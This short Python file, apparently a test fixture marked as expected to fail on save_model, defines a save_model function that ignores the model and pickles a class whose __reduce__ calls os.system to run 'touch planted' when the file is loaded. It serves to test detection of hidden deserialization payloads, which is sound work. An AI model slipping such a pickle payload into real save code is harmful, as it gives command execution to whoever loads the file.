# fails: save_model
# quick: yes
import os
import pickle


class Sly:
    def __reduce__(self):
        return os.system, ("touch planted",)


def save_model(model, path):
    with open(path, "wb") as file:
        pickle.dump(Sly(), file)
